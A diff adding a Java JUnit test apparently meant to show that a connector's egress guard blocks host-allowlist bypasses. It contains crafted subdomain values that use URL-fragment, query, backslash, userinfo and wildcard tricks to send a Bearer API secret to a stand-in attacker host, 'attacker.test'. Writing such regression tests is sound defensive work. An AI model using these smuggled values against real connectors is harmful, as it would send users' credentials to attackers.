@@ -1,0 +1,150 @@
+package airbytemcp.declarative;
+
+import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
+import static com.github.tomakehurst.wiremock.client.WireMock.any;
+import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
+import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
+import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+
+import airbytemcp.common.Json;
+import airbytemcp.network.EgressRules;
+import airbytemcp.secrets.Masker;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import com.github.tomakehurst.wiremock.WireMockServer;
+import java.net.InetAddress;
+import java.util.List;
+import java.util.Optional;
+import java.util.concurrent.TimeUnit;
+import okhttp3.OkHttpClient;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+
+/**
+ * A registry connector whose {@code allowedHosts} entry has a fixed suffix ({@code
+ * ${subdomain}.example.com}, as Zendesk, Okta, Freshservice... have) must only reach hosts under
+ * that suffix, whatever the agent puts in {@code subdomain}. The agent's value is built so that the
+ * allowed-host template reduces it to the attacker's host ({@code [host:]} after a {@code ://} that
+ * hides in the URL's fragment) while the URL the connector builds from the same value goes to that
+ * host with the secret in its Authorization header. The attacker here is a loopback fake the user
+ * listed (standing in for a public host, which needs no listing).
+ */
+@Timeout(value = 60, unit = TimeUnit.SECONDS)
+class AllowedHostsBypassTest {
+  static final String KEY = "zd-Bypass-9Qm2Lx7Rt4";
+  private WireMockServer attacker;
+
+  @BeforeEach
+  void start() {
+    attacker = new WireMockServer(options().dynamicPort().bindAddress("127.0.0.1"));
+    attacker.start();
+    attacker.stubFor(
+        any(anyUrl())
+            .willReturn(
+                aResponse()
+                    .withHeader("Content-Type", "application/json")
+                    .withBody("{\"items\": [{\"id\": 1}]}")));
+  }
+
+  @AfterEach
+  void stop() {
+    attacker.stop();
+  }
+
+  private DeclarativeConnector registryConnector(OkHttpClient http) {
+    Manifest manifest =
+        new ManifestLoader(null, Optional::empty)
+            .fromText(
+                "source-suffixed",
+                """
+        version: 6.0.0
+        type: DeclarativeSource
+        check: {type: CheckStream, stream_names: [items]}
+        spec:
+          type: Spec
+          connection_specification:
+            type: object
+            properties:
+              subdomain: {type: string}
+              api_key: {type: string, airbyte_secret: true}
+        streams:
+          - type: DeclarativeStream
+            name: items
+            schema_loader: {type: InlineSchemaLoader, schema: {type: object, properties: {id: {type: integer}}}}
+            retriever:
+              type: SimpleRetriever
+              requester:
+                type: HttpRequester
+                url_base: "http://{{ config['subdomain'] }}.example.com"
+                path: /api/v2/items
+                http_method: GET
+                authenticator: {type: BearerAuthenticator, api_token: "{{ config['api_key'] }}"}
+              record_selector: {type: RecordSelector, extractor: {type: DpathExtractor, field_path: [items]}}
+        """);
+    RuntimeOptions options = new RuntimeOptions(http, new Masker(), u -> u, d -> {});
+    return DeclarativeConnector.guarded(
+        manifest,
+        options,
+        new EgressGuard(
+            EgressRules.parse("127.0.0.1"),
+            Json.parse("{\"hosts\": [\"${subdomain}.example.com\"]}")));
+  }
+
+  private void assertAttackerGotNothing(ObjectNode config, OkHttpClient http) {
+    ObjectNode result = registryConnector(http).check(config);
+    String seen =
+        attacker.getAllServeEvents().stream()
+            .map(e -> e.getRequest().getUrl() + " " + e.getRequest().getHeader("Authorization"))
+            .toList()
+            .toString();
+    assertFalse(seen.contains(KEY), "the secret reached the attacker: " + seen);
+    assertEquals("FAILED", result.path("status").asText(), result.toString());
+    attacker.verify(0, anyRequestedFor(anyUrl()));
+  }
+
+  @Test
+  void aSubdomainHidingAnotherHostBehindAFragmentDoesNotReachThatHost() {
+    ObjectNode config =
+        Json.object()
+            .put("subdomain", "127.0.0.1:" + attacker.port() + "#://[127.0.0.1:]")
+            .put("api_key", KEY);
+    assertAttackerGotNothing(config, new OkHttpClient());
+  }
+
+  @Test
+  void theSameTrickWorksForAnyHostName() {
+    // "attacker.test" stands for the attacker's public host: resolved here to the loopback fake
+    OkHttpClient http =
+        new OkHttpClient.Builder()
+            .dns(
+                host ->
+                    host.equals("attacker.test")
+                        ? List.of(InetAddress.getLoopbackAddress())
+                        : List.of())
+            .build();
+    ObjectNode config =
+        Json.object()
+            .put("subdomain", "attacker.test:" + attacker.port() + "#://[attacker.test:]")
+            .put("api_key", KEY);
+    assertAttackerGotNothing(config, http);
+  }
+
+  @Test
+  void otherSeparatorsHideNoHostEither() {
+    for (String subdomain :
+        List.of(
+            "127.0.0.1:" + attacker.port() + "/#://[127.0.0.1:]",
+            "127.0.0.1:" + attacker.port() + "?://[127.0.0.1:]",
+            "127.0.0.1:" + attacker.port() + "\\://[127.0.0.1:]",
+            "127.0.0.1:" + attacker.port() + "#",
+            "127.0.0.1:" + attacker.port() + "/",
+            "x@127.0.0.1:" + attacker.port() + "#",
+            "*")) {
+      assertAttackerGotNothing(
+          Json.object().put("subdomain", subdomain).put("api_key", KEY), new OkHttpClient());
+    }
+  }
+}
